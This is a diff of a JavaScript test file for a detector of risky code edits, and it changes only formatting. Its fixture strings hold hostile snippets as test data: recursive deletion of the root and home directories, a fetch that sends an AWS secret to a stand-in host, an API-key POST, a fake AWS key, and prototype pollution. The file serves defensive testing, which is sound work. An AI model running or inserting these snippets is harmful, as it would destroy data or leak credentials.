@@ -46,9 +46,13 @@ describe('RiskyEditObserver where the prototype saw nothing', () => {
     ['PROC-SPAWN-NEW', 'src/app.js', "child_process.spawn('ls')\n"],
     ['PROC-SPAWN-NEW', 'src/app.js', "const { spawn } = require('child_process')\n"],
     ['DESTRUCTIVE', 'src/app.js', 'rmSync("/", { recursive: true })\n'],
-    ['DESTRUCTIVE', 'src/app.js', "fs.rmSync(os.homedir(), { recursive: true })\n"],
+    ['DESTRUCTIVE', 'src/app.js', 'fs.rmSync(os.homedir(), { recursive: true })\n'],
     ['NET-EXFIL', 'src/app.js', "fetch('https://x.example.net/?k=' + process.env.AWS_SECRET)\n"],
-    ['NET-EXFIL', 'src/app.js', "await fetch(url, {\n  method: 'POST',\n  body: JSON.stringify({ key: process.env.API_KEY }),\n})\n"],
+    [
+      'NET-EXFIL',
+      'src/app.js',
+      "await fetch(url, {\n  method: 'POST',\n  body: JSON.stringify({ key: process.env.API_KEY }),\n})\n",
+    ],
     ['SEC-VENDOR', 'src/app.js', `const key = 'AKIA${'QWERTYUIOPASDFGH'}'\n`],
     ['PROTO-POLLUTE', 'src/app.js', "target.__proto__.polluted = 'yes'\n"],
     ['PROTO-POLLUTE', 'src/app.js', "target['__proto__']['polluted'] = 'yes'\n"],
@@ -67,6 +71,8 @@ describe('RiskyEditObserver where the prototype saw nothing', () => {
     const audit = await observe(patchOf([['src/app.js', lines('a'), lines('b')]]), {}, { policy: { linesChangedMax: 799 } })
     expect(rulesIn(audit)).toEqual(['POLICY-SIZE'])
     expect(audit.findings[0]?.evidence).toBe('800 lines in 1 files')
-    expect((await observe(patchOf([['src/app.js', lines('a'), lines('b')]]), {}, { policy: { linesChangedMax: 800 } })).verdict).toBe('allow')
+    expect(
+      (await observe(patchOf([['src/app.js', lines('a'), lines('b')]]), {}, { policy: { linesChangedMax: 800 } })).verdict,
+    ).toBe('allow')
   })
 })
